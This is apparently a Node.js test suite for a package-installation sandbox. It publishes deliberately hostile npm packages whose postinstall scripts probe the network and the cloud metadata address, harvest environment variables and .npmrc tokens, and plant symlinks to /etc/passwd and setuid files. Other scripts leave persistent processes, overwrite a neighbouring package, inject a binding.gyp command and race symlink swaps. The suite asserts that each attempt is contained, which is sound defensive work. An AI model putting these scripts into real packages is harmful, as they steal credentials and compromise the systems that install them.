// NP: hostile install scripts, of packages that the operator has allowed to run them.
import assert from 'node:assert/strict';
import { existsSync, lstatSync, readdirSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { after, before } from 'node:test';

import { packagesDirectory } from '../e2e/lib/belljar.mjs';
import { ownDirectory } from '../e2e/lib/directories.mjs';
import { startTinyRegistry } from '../e2e/lib/tiny_registry.mjs';
import { within } from '../e2e/lib/wait.mjs';
import { test } from './lib/applies.mjs';
import { openJar } from './lib/jar.mjs';

const registry = await startTinyRegistry();
after(() => registry.stop());
const secret = 'a-token-that-nobody-may-see';
const directory = ownDirectory('belljar-scripts-');
after(() => rmSync(directory, { recursive: true }));
const npmrc = join(directory, 'npmrc');
writeFileSync(npmrc, `registry=${registry.url}\n${registry.url.replace(/^http:/, '')}:_authToken=${secret}\n`);

const names = ['phones-home', 'looks-around', 'leaves-traps', 'huge', 'many', 'stays', 'vandal', 'builds', 'swaps'];
const jar = openJar({ env: { npm_config_userconfig: npmrc, SECRET_OF_THE_OPERATOR: secret, BELLJAR_INSTALL_TIMEOUT: '60000', BELLJAR_PACKAGES_ALLOW_SCRIPTS: names.join() } });

let listener; // on the host: nobody should ever connect to it
let visitors = 0;
before(async () => {
  listener = createServer((socket) => (visitors++, socket.destroy())).listen(0, '0.0.0.0');
  await new Promise((resolve) => listener.once('listening', resolve));
});
after(() => listener.close());

const module_ = { type: 'module', main: 'index.js' };
const list = (packages) => packages.map((name) => ({ name, version: '*' }));
// A package whose install script is a program; what it prints as its last line is what the package exports.
const publish = (name, program, manifest = {}) => registry.add({
  name, manifest: { ...module_, scripts: { postinstall: 'node evil.mjs > findings.json' }, ...manifest },
  files: { 'index.js': 'import fs from "node:fs"; export default JSON.parse(fs.readFileSync(new URL("findings.json", import.meta.url)));\n', 'evil.mjs': program },
});
const findings = (name) => jar.inside(async ({ name }) => (await import(name)).default, { data: { name }, dependencies: list([name]) });
const install = (...packages) => jar.server.run('console.log("ran")', { dependencies: list(packages) });

// What is in the store of the host: nothing but directories, plain files and links that stay there.
function checkStore(place = packagesDirectory) {
  for (const entry of readdirSync(place)) {
    const path = join(place, entry);
    const status = lstatSync(path);
    if (status.isDirectory()) checkStore(path);
    else if (status.isSymbolicLink()) assert.ok(join(place, readlinkSync(path)).startsWith(packagesDirectory), path);
    else assert.ok(status.isFile(), path);
    if (!status.isSymbolicLink()) assert.equal(status.mode & 0o7000, 0, path);
  }
}

test('NP01 a script that is allowed reaches nobody', async () => {
  const { port } = listener.address();
  publish('phones-home', `import net from 'node:net'; import dns from 'node:dns/promises';
    const dial = (host, port) => new Promise((resolve) => { const socket = net.connect({ host, port, timeout: 2000 }, () => resolve('connected')); socket.on('error', (error) => resolve(error.code)); socket.on('timeout', () => resolve('timeout')); });
    const seen = {};
    for (const host of ['127.0.0.1', '10.0.0.1', '192.0.2.1', '1.1.1.1', '::1', '169.254.169.254']) for (const port of [${port}, ${new URL(registry.url).port}, 80, 443]) seen[host + ' ' + port] = await dial(host, port);
    seen.name = await dns.lookup('example.com').then(() => 'found', (error) => error.code);
    console.log(JSON.stringify(seen)); process.exit();`);
  const before = registry.requests.length;
  const seen = await findings('phones-home');
  assert.deepEqual(Object.entries(seen).filter(([, verdict]) => ['connected', 'found'].includes(verdict)), []);
  assert.equal(visitors, 0);
  assert.equal(registry.requests.length, before + 2, 'belljar has asked for the document and the tarball');
});

test('NP02 a script finds no credentials', async () => {
  publish('looks-around', `import fs from 'node:fs'; import cp from 'node:child_process';
    const files = cp.execSync('cat /proc/self/environ /proc/1/environ /proc/*/environ /proc/*/cmdline ~/.npmrc /root/.npmrc /workspace/.npmrc /etc/npmrc /usr/local/etc/npmrc 2>/dev/null; find / -xdev -name "*npmrc" -type f -size +0 -not -path "/proc/*" -not -path "*/node_modules/*" 2>/dev/null; npm config ls -l 2>/dev/null; true', { maxBuffer: 1 << 26 }).toString();
    console.log(JSON.stringify({ env: process.env, files }));`);
  const seen = JSON.stringify(await findings('looks-around'));
  assert.ok(seen.includes('npm_lifecycle_event'));
  for (const word of [secret, npmrc, new URL(registry.url).host]) assert.ok(!seen.includes(word), word);
});

test('NP06 what a script leaves behind becomes plain files, or nothing', async () => {
  publish('leaves-traps', `import fs from 'node:fs'; import cp from 'node:child_process';
    const attempt = (command) => { try { cp.execSync(command, { stdio: 'ignore' }); return 'ok'; } catch { return 'failed'; } };
    const seen = {};
    for (const command of ['ln -s /etc/passwd absolute', 'ln -s ../../../../../../../../etc up', 'ln -s .. parent', 'ln -s ../../.. far', 'mkfifo fifo', 'mknod null c 1 3', 'mknod disk b 8 0', 'cp /bin/true setuid && chmod 6755 setuid', 'touch sticky && chmod 1644 sticky',
      'ln /etc/passwd hard', 'ln index.js hard-inside', "touch \\"$(printf 'new\\\\nline')\\"", "touch \\"$(printf '\\\\377')\\"", 'python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\\'socket\\')"', 'mkdir unreadable && touch unreadable/x && chmod 0 unreadable', 'touch secret && chmod 0 secret',
      'mkdir ../.bin; ln -sf /bin/sh ../.bin/node', 'ln -s loop loop', 'mkdir -p ' + 'd/'.repeat(80), 'rm -rf ../.package-lock.json; ln -s /etc/passwd ../.package-lock.json']) seen[command] = attempt(command);
    console.log(JSON.stringify(seen));`);
  const seen = await findings('leaves-traps');
  assert.equal(seen['ln -s /etc/passwd absolute'], 'ok', 'it was tried');
  const kinds = await jar.inside(() => {
    const found = {};
    const walk = (place) => {
      for (const entry of fs.readdirSync(place, { withFileTypes: true })) {
        const path = `${place}/${entry.name}`;
        found[path] = entry.isDirectory() ? 'directory' : entry.isFile() ? `file ${(fs.statSync(path).mode & 0o7777).toString(8)}` : entry.isSymbolicLink() ? `-> ${fs.readlinkSync(path)}` : 'other';
        if (entry.isDirectory()) walk(path);
      }
    };
    walk('node_modules');
    return found;
  }, { dependencies: list(['leaves-traps']) });
  const place = 'node_modules/leaves-traps';
  assert.deepEqual([kinds[`${place}/setuid`], kinds[`${place}/sticky`], kinds[`${place}/hard-inside`], kinds[`${place}/parent`]], ['file 755', 'file 644', 'file 644', '-> ..']);
  for (const name of ['absolute', 'up', 'far', 'fifo', 'null', 'disk', 'hard', 'socket']) assert.equal(kinds[`${place}/${name}`], undefined, name);
  assert.equal(kinds['node_modules/.bin/node'], undefined);
  assert.equal(kinds['node_modules/.package-lock.json'], 'file 644');
  for (const [path, kind] of Object.entries(kinds)) assert.match(kind, /^(directory|file (644|755)|-> (\.\.|loop))$/, path);
  checkStore();
});

test('NP09 a script that makes a huge file fails, and leaves nothing', async () => {
  publish('huge', 'import fs from "node:fs"; fs.truncateSync(fs.openSync("sparse", "w"), 2 ** 40); console.log(1);');
  const result = await within(60_000, 'an answer', install('huge'));
  assert.equal(result.isError, true, result.text);
  assert.match(result.text, /files of more than 512 MiB|install script of huge failed/);
  assert.deepEqual(readdirSync(join(packagesDirectory, 'tmp')).flatMap((own) => readdirSync(join(packagesDirectory, 'tmp', own))), []);
});

test('NP09 a script that makes very many files fails', async () => {
  publish('many', 'import fs from "node:fs"; for (let i = 0; i < 60_000; i++) { if (i % 1000 === 0) fs.mkdirSync(`d${i / 1000}`); fs.closeSync(fs.openSync(`d${Math.floor(i / 1000)}/${i}`, "w")); } console.log(1);');
  const result = await within(60_000, 'an answer', install('many'));
  assert.equal(result.isError, true, result.text);
  assert.match(result.text, /more than 50000 files|install script of many failed/);
});

test('NP08 what a script starts ends with the installation', async () => {
  publish('stays', 'import cp from "node:child_process"; for (let i = 0; i < 5; i++) cp.spawn("setsid", ["sleep", "1000"], { detached: true, stdio: "ignore" }).unref(); console.log(1);');
  assert.equal(await findings('stays'), 1);
  await jar.watch.checkIdle();
  assert.deepEqual(jar.watch.sandboxed().programs, []);
});

test('NP14 a script cannot change what other sets have of the same package', async () => {
  registry.add({ name: 'victim', manifest: module_, files: { 'index.js': 'export default "whole";\n', 'other.js': '1' } });
  assert.equal(await findings('victim'), 'whole');
  publish('vandal', `import fs from 'node:fs'; const place = '../victim/';
    fs.chmodSync(place + 'index.js', 0o777);
    const file = fs.openSync(place + 'index.js', 'r+'); fs.writeSync(file, 'export default "EVIL!";'); fs.ftruncateSync(file, 23); fs.fsyncSync(file);
    fs.linkSync(place + 'other.js', 'link.js'); fs.appendFileSync('link.js', 'evil'); fs.renameSync(place + 'other.js', place + 'moved.js');
    console.log(JSON.stringify(fs.readFileSync(place + 'index.js', 'utf8')));`, { dependencies: { victim: '*' } });
  assert.match(await findings('vandal'), /EVIL/);
  const seen = await jar.inside(() => [fs.readFileSync('node_modules/victim/index.js', 'utf8'), fs.readdirSync('node_modules/victim').join(), fs.readFileSync('node_modules/victim/other.js', 'utf8')], { dependencies: list(['victim']) });
  assert.deepEqual(seen, ['export default "whole";\n', 'index.js,other.js,package.json', '1']);
  registry.add({ name: 'second', manifest: { ...module_, dependencies: { victim: '*' } }, files: { 'index.js': 'export { default } from "victim";\n' } });
  assert.equal(await findings('second'), 'whole', 'nor what later ones get');
});

test('NP18 commands in binding.gyp run in the sandbox or not at all', async () => {
  const mark = join(directory, 'gyp-ran');
  registry.add({ name: 'builds', manifest: module_, files: { 'index.js': '', 'binding.gyp': `{"targets":[{"target_name":"<!(touch ${mark} /tmp/belljar-gyp-ran; echo x)"}]}` } });
  const result = await within(60_000, 'an answer', install('builds'));
  assert.match(result.text, /install script of builds failed|ran/);
  assert.deepEqual([existsSync(mark), existsSync('/tmp/belljar-gyp-ran')], [false, false]);
});

test('NP06 a process of a script that swaps directories for links while they are read leads nowhere', async () => {
  publish('swaps', `import cp from 'node:child_process'; import fs from 'node:fs';
    for (let i = 0; i < 40; i++) { fs.mkdirSync('d' + i); for (let j = 0; j < 50; j++) fs.writeFileSync('d' + i + '/passwd' + j, 'mine'); fs.writeFileSync('d' + i + '/passwd', 'mine'); }
    cp.spawn('perl', ['-e', 'while (1) { for my $d (0 .. 39) { if (rename("d$d", "/tmp/d$d")) { symlink("/etc", "d$d"); unlink("d$d"); mkdir "d$d"; symlink("/etc/passwd", "d$d/passwd") } else { mkdir "e$d"; rename("e$d", "d$d") } } }'], { detached: true, stdio: 'ignore' }).unref();
    console.log(1);`);
  const result = await within(60_000, 'an answer', install('swaps'));
  assert.ok(result.isError || result.stdout === 'ran\n', result.text);
  checkStore();
  const seen = result.isError ? [] : await jar.inside(() => cp.execSync('grep -rl root: node_modules/swaps 2>/dev/null; true').toString().split('\n').filter(Boolean), { dependencies: list(['swaps']) });
  assert.deepEqual(seen, []);
});
